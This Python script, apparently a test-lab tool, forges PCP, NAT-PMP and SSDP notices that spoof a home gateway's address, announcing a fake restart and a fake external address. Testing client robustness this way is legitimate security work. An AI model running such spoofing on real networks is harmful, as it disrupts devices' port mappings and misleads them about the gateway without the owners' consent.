#!/usr/bin/env python3
"""forge_notices.py - a stream of gateway notices forged by a LAN device (run it in ns rogue).

Every second, RATE times each, all with the gateway's address as their source:
  a PCP ANNOUNCE (epoch 0: "I restarted")          GATEWAY:5351 -> 224.0.0.1:5350
  a NAT-PMP address notice (198.51.100.66, epoch 0) GATEWAY:5351 -> 224.0.0.1:5350
  an SSDP ssdp:alive for an IGD with a new BOOTID   GATEWAY:1900 -> 239.255.255.250:1900
    (LOCATION the gateway's real description, so only the boot id is new)
for SECONDS seconds; prints the number of datagrams sent.

usage: forge_notices.py --gateway A --location URL [--rate N] [--seconds S]
"""

import argparse
import struct
import time

import spoof

ALL_HOSTS = ("224.0.0.1", 5350)
SSDP_GROUP = ("239.255.255.250", 1900)


def pcp_announce(epoch):
    # version 2, R bit + opcode ANNOUNCE, reserved, result SUCCESS, lifetime 0, epoch, 12 reserved
    return struct.pack("!BBBBII12x", 2, 0x80, 0, 0, 0, epoch)


def natpmp_address_notice(epoch, address):
    return struct.pack("!BBHI4s", 0, 0x80, 0, epoch, bytes(int(x) for x in address.split(".")))


def ssdp_alive(location, boot_id):
    return ("NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nCACHE-CONTROL: max-age=120\r\n"
            "LOCATION: %s\r\nNT: urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\n"
            "NTS: ssdp:alive\r\nSERVER: Linux UPnP/1.1 MiniUPnPd/2.3.1\r\n"
            "USN: uuid:forged::urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\n"
            "BOOTID.UPNP.ORG: %d\r\nCONFIGID.UPNP.ORG: 1337\r\n\r\n" % (location, boot_id)).encode()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--gateway", required=True)
    parser.add_argument("--location", required=True)
    parser.add_argument("--rate", type=int, default=4)
    parser.add_argument("--seconds", type=int, default=30)
    args = parser.parse_args()
    if not 1 <= args.rate <= 100 or not 1 <= args.seconds <= 600:
        raise SystemExit("forge_notices.py: --rate must be 1..100 and --seconds 1..600")
    sock = spoof.raw_socket()
    sent, boot_id = 0, 1000
    start = time.monotonic()
    for second in range(args.seconds):
        for _ in range(args.rate):
            boot_id += 1
            spoof.send(sock, (args.gateway, 5351), ALL_HOSTS, pcp_announce(0))
            spoof.send(sock, (args.gateway, 5351), ALL_HOSTS, natpmp_address_notice(0, "198.51.100.66"))
            spoof.send(sock, (args.gateway, 1900), SSDP_GROUP, ssdp_alive(args.location, boot_id))
            sent += 3
            time.sleep(1.0 / args.rate / 2)
        # keep to the schedule however long the sends took
        time.sleep(max(0.0, start + second + 1 - time.monotonic()))
    print(sent)


if __name__ == "__main__":
    main()
